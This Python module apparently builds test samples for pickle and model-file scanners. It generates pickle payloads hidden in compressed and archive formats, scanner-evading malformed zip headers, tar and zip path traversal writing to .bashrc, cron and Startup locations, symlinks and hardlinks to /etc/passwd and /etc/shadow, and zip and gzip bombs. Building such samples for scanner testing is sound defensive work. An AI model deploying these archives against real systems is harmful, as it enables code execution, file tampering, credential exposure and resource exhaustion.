"""Malicious pickles inside archives and compressed files, and archives that are themselves the attack."""

# ruff: noqa: E501 (one row a sample reads better than wrapped calls)

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Literal

from .assembler import MARKER, evil, pickle, value
from .sample import Sample, write_bytes
from .zipcraft import Member, archive

SONATYPE = "CVE-2025-1944"
FLAGS = "CVE-2025-1945"
CRC = "CVE-2025-10156"
_BENIGN = pickle(value({"weights": [1.0, 2.0]}))


def _bad_crc(content: bytes) -> bytes:
    return content[:-8] + struct.pack("<I", zlib.crc32(b"different")) + content[-4:]


def _zstd(content: bytes) -> bytes:
    from backports import zstd

    return bytes(zstd.compress(content))


def _lz4(content: bytes) -> bytes:
    import lz4.frame

    return bytes(lz4.frame.compress(content))


def _seven_zip(directory: Path) -> Path:
    import py7zr

    path = directory / "weights.7z"
    with py7zr.SevenZipFile(path, "w") as target:
        target.writestr(evil(), "data.pkl")
    return path


def _seven_zip_as_model(directory: Path) -> Path:
    """What the models called nullifAI did: a 7z archive under a torch name, the pickle inside broken."""
    import py7zr

    path = directory / "pytorch_model_7z.bin"
    with py7zr.SevenZipFile(path, "w") as target:
        target.writestr(evil()[:-1] + b"\xff", "pytorch_model.pkl")
    return path


def _tar(mode: Literal["w", "w:gz"], *members: tuple[tarfile.TarInfo, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode, format=tarfile.GNU_FORMAT) as target:
        for info, data in members:
            info.size = len(data)
            target.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def _info(name: str, kind: bytes = tarfile.REGTYPE, link: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, link
    return info


def _zip(name: str = "data.pkl", content: bytes | None = None, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as target:
        target.writestr(zipfile.ZipInfo(name), evil() if content is None else content, method)
    return buffer.getvalue()


def _symlink_zip() -> bytes:
    return archive([Member(b"weights", b"/etc/passwd", external=0o120777 << 16), Member(b"config.json", b"{}")])


def _zip_of_depth(depth: int) -> bytes:
    content = evil()
    for level in range(depth):
        content = _zip(f"level{level}.zip" if level else "data.pkl", content)
    return content


def _gzip_of_depth(depth: int) -> bytes:
    content = evil()
    for _ in range(depth):
        content = gzip.compress(content, mtime=0)
    return content


def _bomb_member(copies: int) -> bytes:
    """A member that inflates 1000 times; the same packed bytes serve as often as wanted."""
    return archive([Member(f"w{index}.bin".encode(), bytes(20_000_000), deflate=True) for index in range(copies)])


def _overlapping_bomb() -> bytes:
    """Many central entries pointing at one local member (Fifield's overlap, without quoting)."""
    single = archive([Member(b"w.bin", bytes(20_000_000), deflate=True)])
    end = single.rindex(b"PK\x05\x06")
    start = struct.unpack("<I", single[end + 16 : end + 20])[0]
    entry = single[start:end]
    count = 400
    tail = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(entry) * count, start, 0)
    return single[:start] + entry * count + tail


def _zip64_lie() -> bytes:
    """Sizes of 0xffffffff with a ZIP64 extra field that claims an exabyte."""
    extra = struct.pack("<HHQQ", 1, 16, 2**60, 2**60)
    return archive([Member(b"data.pkl", evil(), size=0xFFFFFFFF, extra=extra, version=45)])


def _two_ends() -> bytes:
    """The comment of the outer archive is a second end record that lists another directory."""
    outer = archive([Member(b"readme.txt", b"weights")])
    inner = archive([Member(b"data.pkl", evil())], prefix=outer)
    return inner + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0, 0, 0, 0, 0)


_COMPRESSED: list[tuple[str, str, Callable[[], bytes], str, str]] = [
    ("model.pkl.gz", "wrapper/gzip", lambda: gzip.compress(evil(), mtime=0), "compressed", ""),
    ("model.pkl.bz2", "wrapper/bz2", lambda: bz2.compress(evil()), "compressed", ""),
    ("model.pkl.xz", "wrapper/xz", lambda: lzma.compress(evil()), "compressed", ""),
    ("model.pkl.lzma", "wrapper/lzma-alone", lambda: lzma.compress(evil(), lzma.FORMAT_ALONE), "compressed", ""),
    ("model.pkl.zst", "wrapper/zstd", lambda: _zstd(evil()), "", "backports.zstd"),
    ("model.pkl.lz4", "wrapper/lz4", lambda: _lz4(evil()), "", "lz4"),
    ("model.pkl.zlib", "wrapper/zlib", lambda: zlib.compress(evil()), "", ""),
    ("series.pkl.gz", "wrapper/pandas-gzip", lambda: gzip.compress(evil(), mtime=0), "pandas", "pandas"),
    ("series.pkl.zip", "wrapper/pandas-zip", lambda: _zip("frame"), "pandas", "pandas"),
    ("series.pkl.tar", "wrapper/pandas-tar", lambda: _tar("w", (_info("frame"), evil())), "pandas", "pandas"),
    ("series.pkl.xz", "wrapper/pandas-xz", lambda: lzma.compress(evil()), "pandas", "pandas"),
    ("gzip_two_members.pkl.gz", "wrapper/gzip-multi-member", lambda: gzip.compress(evil()[:20], mtime=0) + gzip.compress(evil()[20:], mtime=0), "compressed", ""),
    ("gzip_in_gzip.pkl.gz", "wrapper/gzip-nested", lambda: gzip.compress(gzip.compress(evil(), mtime=0), mtime=0), "", ""),
    ("gzip_header_name.gz", "wrapper/gzip-named-picture", lambda: b"\x1f\x8b\x08\x08\0\0\0\0\0\xffcat.png\0" + gzip.compress(evil(), mtime=0)[10:], "compressed", ""),
    ("gzip_bad_crc.pkl.gz", "wrapper/gzip-bad-crc", lambda: _bad_crc(gzip.compress(evil(), mtime=0)), "", ""),
    ("gzip_truncated.pkl.gz", "wrapper/gzip-truncated", lambda: gzip.compress(evil() + bytes(range(256)) * 8, mtime=0)[:-40], "", ""),
    ("gzip_trailing.pkl.gz", "wrapper/gzip-tail", lambda: gzip.compress(_BENIGN, mtime=0) + bytes(64) + evil(), "", ""),
    ("bomb.pkl.gz", "bomb/gzip", lambda: gzip.compress(bytes(60_000_000), mtime=0), "", ""),
    ("bomb.pkl.xz", "bomb/xz", lambda: lzma.compress(bytes(40_000_000), preset=1), "", ""),
    ("bomb.pkl.bz2", "bomb/bz2", lambda: bz2.compress(bytes(40_000_000)), "", ""),
    ("nested_30.gz", "bomb/gzip-depth", lambda: _gzip_of_depth(30), "", ""),
]  # fmt: skip

_TAR: list[tuple[str, str, Callable[[], bytes], str, str]] = [
    ("weights.tar", "tar/pickle", lambda: _tar("w", (_info("model/data.pkl"), evil())), "", ""),
    ("weights.tar.gz", "tar/gzip", lambda: _tar("w:gz", (_info("model/data.pkl"), evil())), "", ""),
    ("model.nemo", "tar/nemo", lambda: _tar("w", (_info("./model_config.yaml"), b"target: os.system\n"), (_info("./model_weights.ckpt"), evil())), "", ""),
    ("traversal.tar", "tar/path-traversal", lambda: _tar("w", (_info(f"../{MARKER}"), b"x")), "tar", "CVE-2007-4559"),
    ("traversal_deep.tar", "tar/path-traversal-hidden", lambda: _tar("w", (_info("weights", tarfile.DIRTYPE), b""), (_info(f"weights/../../{MARKER}"), b"x")), "tar", "CVE-2024-5187"),
    ("traversal_prefix.tar.gz", "tar/sibling-directory", lambda: _tar("w:gz", (_info("../model_evil/run.py"), b"x")), "", "https://huggingface.co/ResponsibleReport/onnx-tarslip-poc"),
    ("absolute.tar", "tar/absolute-path", lambda: _tar("w", (_info("/etc/cron.d/model"), b"* * * * * root true\n")), "", ""),
    ("symlink.tar", "tar/symlink-out", lambda: _tar("w", (_info("weights", tarfile.SYMTYPE, ".."), b""), (_info(f"weights/{MARKER}"), b"x")), "tar", "CVE-2025-4517"),
    ("symlink_file.tar", "tar/symlink-to-secret", lambda: _tar("w", (_info("config.json", tarfile.SYMTYPE, "/etc/passwd"), b"")), "", ""),
    ("hardlink.tar", "tar/hardlink-out", lambda: _tar("w", (_info("weights.bin", tarfile.LNKTYPE, "../../etc/shadow"), b"")), "", ""),
    ("device.tar", "tar/device", lambda: _tar("w", (_info("weights.bin", tarfile.CHRTYPE), b"")), "", ""),
    ("fifo.tar", "tar/fifo", lambda: _tar("w", (_info("weights.bin", tarfile.FIFOTYPE), b"")), "", ""),
    ("setuid.tar", "tar/setuid", lambda: _tar("w", (_setuid(), b"\x7fELF" + bytes(60))), "", ""),
    ("bad_checksum.tar", "tar/bad-checksum", lambda: _tar("w", (_info("a.txt"), b"x")).replace(b"a.txt", b"b.txt", 1)[:1536] + evil(), "", ""),
    ("after_end.tar", "tar/data-after-end", lambda: _tar("w", (_info("a.txt"), b"x")) + _tar("w", (_info("data.pkl"), evil())), "", ""),
    ("long_name.tar", "tar/gnu-long-name", lambda: _tar("w", (_info("a/" * 80 + "../" * 82 + MARKER), b"x")), "", ""),
]  # fmt: skip


def _setuid() -> tarfile.TarInfo:
    info = _info("bin/serve")
    info.mode = 0o4755
    return info


_DATA = b"archive/data.pkl"

_ZIP: list[tuple[str, str, Callable[[], bytes], str, str]] = [
    ("plain.zip", "zip/pickle", lambda: _zip(), "unzip", ""),
    ("renamed_member.zip", "zip/member-suffix-txt", lambda: _zip("data.txt"), "unzip", "CVE-2025-1889"),
    ("picture_member.zip", "zip/member-suffix-jpg", lambda: _zip("cat.jpg"), "unzip", "CVE-2025-1889"),
    ("upper_case_member.zip", "zip/member-upper-case", lambda: _zip("model/DATA.PKL", evil(0)), "unzip", "https://huggingface.co/pauliquib/picklescan-zip-case-desync-poc"),
    ("no_suffix_member.zip", "zip/member-without-suffix", lambda: _zip("weights"), "unzip", ""),
    ("hidden_member.zip", "zip/member-hidden-name", lambda: _zip("__MACOSX/._data"), "unzip", ""),
    ("flag_encrypted.zip", "zip/flag-bit-encrypted", lambda: archive([Member(b"data.pkl", evil(), flags=1)]), "", FLAGS),
    ("flag_encrypted_central.zip", "zip/flag-bit-central-only", lambda: archive([Member(b"data.pkl", evil(), central_flags=1)]), "", FLAGS),
    ("flag_patched_data.zip", "zip/flag-bit-0x20", lambda: archive([Member(b"data.pkl", evil(), flags=0x20)]), "", FLAGS),
    ("flag_strong.zip", "zip/flag-bit-0x40", lambda: archive([Member(b"data.pkl", evil(), flags=0x40)]), "", FLAGS),
    ("flag_descriptor.zip", "zip/flag-data-descriptor-lie", lambda: archive([Member(b"data.pkl", evil(), flags=8)]), "unzip", FLAGS),
    ("wrong_crc.zip", "zip/wrong-crc", lambda: archive([Member(b"data.pkl", evil(), crc=0)]), "", CRC),
    ("local_name_differs.zip", "zip/local-name-differs", lambda: archive([Member(b"data.pkl", evil(), local_name=b"read.txt")]), "", SONATYPE),
    ("wrong_size.zip", "zip/wrong-size", lambda: archive([Member(b"data.pkl", evil(), size=3)]), "", SONATYPE),
    ("central_size_zero.zip", "zip/central-size-zero", lambda: archive([Member(b"data.pkl", evil(), deflate=True, central_size=0)]), "", ""),
    ("unknown_method.zip", "zip/unknown-method", lambda: archive([Member(b"data.pkl", evil(), method=99)]), "", ""),
    ("method_contradicts.zip", "zip/method-lie", lambda: archive([Member(b"data.pkl", evil(), method=8)]), "", ""),
    ("duplicate_first_evil.zip", "zip/duplicate-names", lambda: archive([Member(_DATA, evil()), Member(_DATA, _BENIGN)]), "", "https://huggingface.co/Fitscha/modelscan-pytorch-dup-datapkl-bypass-poc"),
    ("duplicate_last_evil.zip", "zip/duplicate-names-last", lambda: archive([Member(_DATA, _BENIGN), Member(_DATA, evil())]), "unzip", "https://huggingface.co/EnigmaConsultant/huntr-poc-pt-zip-differential"),
    ("unlisted_member.zip", "zip/member-not-in-directory", lambda: archive([Member(b"data.pkl", evil(), listed=False), Member(b"a.txt", b"x")]), "", ""),
    ("entry_count_lie.zip", "zip/entry-count-lie", lambda: archive([Member(b"a.txt", b"x"), Member(b"data.pkl", evil())], entries=1), "", ""),
    ("directory_missing.zip", "zip/no-central-directory", lambda: archive([Member(b"data.pkl", evil())]).partition(b"PK\x01\x02")[0], "", ""),
    ("directory_corrupted.zip", "zip/central-directory-corrupted", lambda: archive([Member(b"data.pkl", evil())]).replace(b"PK\x01\x02", b"PK\x09\x09"), "", SONATYPE),
    ("gap_payload.zip", "zip/data-between-members", lambda: archive([Member(b"a.txt", b"x")], before_end=b"").replace(b"PK\x01\x02", evil() + b"PK\x01\x02", 1), "", ""),
    ("before_end.zip", "zip/data-before-end-record", lambda: archive([Member(b"a.txt", b"x")], before_end=evil()), "", ""),
    ("prefixed.zip", "zip/prefix-data", lambda: archive([Member(b"data.pkl", evil())], prefix=b"\x89PNG\r\n\x1a\n" + bytes(100)), "unzip", ""),
    ("self_extracting.zip", "zip/prefix-executable", lambda: archive([Member(b"a.txt", b"x")], prefix=b"\x7fELF\x02\x01\x01" + bytes(57), count_prefix=False), "", ""),
    ("pickle_then_zip.pkl", "zip/pickle-prefix", lambda: archive([Member(b"data.pkl", _BENIGN)], prefix=evil()), "pickle", "https://github.com/mmaitre314/picklescan"),
    ("comment_payload.zip", "zip/comment", lambda: archive([Member(b"a.txt", b"x")], comment=evil()), "", ""),
    ("comment_end_record.zip", "zip/two-end-records", _two_ends, "", ""),
    ("zip64_lie.zip", "zip/zip64-lie", _zip64_lie, "", ""),
    ("zip_in_zip.zip", "zip/nested", lambda: _zip("inner.zip", _zip()), "", ""),
    ("zip_in_zip_named_bin.zip", "zip/nested-renamed", lambda: _zip("weights.bin", _zip("data.bin")), "", ""),
    ("tar_in_zip.zip", "zip/nested-tar-gz", lambda: _zip("m.dat", _tar("w:gz", (_info("w"), evil()))), "", ""),
    ("traversal.zip", "zip/path-traversal", lambda: _zip("../../.bashrc", b"echo"), "", ""),
    ("traversal_backslash.zip", "zip/path-traversal-backslash", lambda: archive([Member(b"..\\..\\Startup\\run.bat", b"echo")]), "", ""),
    ("absolute.zip", "zip/absolute-path", lambda: archive([Member(b"/etc/cron.d/model", b"x")]), "", ""),
    ("drive.zip", "zip/drive-path", lambda: archive([Member(b"C:\\Windows\\x.dll", b"x")]), "", ""),
    ("nul_in_name.zip", "zip/nul-in-name", lambda: archive([Member(b"data.pkl\x00.txt", evil())]), "", ""),
    ("symlink.zip", "zip/symlink", _symlink_zip, "", ""),
    ("bomb.zip", "bomb/zip", lambda: _bomb_member(6), "", ""),
    ("bomb_overlapping.zip", "bomb/zip-overlap", _overlapping_bomb, "", "https://www.bamsoftware.com/hacks/zipbomb/"),
    ("nested_12.zip", "bomb/zip-depth", lambda: _zip_of_depth(12), "", ""),
    ("many_members.zip", "bomb/zip-members", lambda: archive([Member(f"{n}".encode(), b"") for n in range(9000)] + [Member(b"x.pkl", evil())]), "", ""),
]  # fmt: skip

_NAMES = ["cat.png", "config.json", "model.safetensors", "model.h5", "model.onnx", "README.md", "weights.npy.txt",
          "model.gguf", "model.keras", "model.tflite", "vocab.txt", "model", "data.csv", "labels.yaml", "model.pb",
          "model.zip", "model.tar.bz2", "run.log", "setup.cfg", "model.pkl.sig", ".weights"]  # fmt: skip


def _archived(name: str, technique: str, content: Callable[[], bytes], loader: str, source: str) -> Sample:
    return Sample(name, technique, True, bool(loader), write_bytes(name, content), loader, (), source)


def _compressed(name: str, technique: str, content: Callable[[], bytes], loader: str, extra: str) -> Sample:
    needs = (extra,) if extra in ("pandas", "backports.zstd", "lz4") else ()
    return Sample(
        name, technique, True, bool(loader), write_bytes(name, content), loader, needs, "" if needs else extra
    )


def _misnamed(name: str) -> Sample:
    suffix = name.rpartition(".")[2] if "." in name.strip(".") else "none"
    unique = (
        f"pickle_as_{name.replace('.', '_').strip('_')}.{suffix}"
        if suffix != "none"
        else f"pickle_as_{name.strip('.')}_file"
    )
    return Sample(
        unique, f"misnamed/{name.strip('.')}", True, True, write_bytes(unique, evil), "pickle", (), "CVE-2025-10155"
    )


SAMPLES = (
    *(_compressed(*row) for row in _COMPRESSED),
    *(_archived(*row) for table in (_TAR, _ZIP) for row in table),
    *(_misnamed(name) for name in _NAMES),
    Sample("weights.7z", "wrapper/7z", True, True, _seven_zip, "7z", ("py7zr",), "https://www.reversinglabs.com/blog/rl-identifies-malware-ml-model-hosted-on-hugging-face"),
    Sample("pytorch_model_7z.bin", "wrapper/7z-broken-pickle", True, False, _seven_zip_as_model, "", ("py7zr",), "https://www.reversinglabs.com/blog/rl-identifies-malware-ml-model-hosted-on-hugging-face"),
)  # fmt: skip
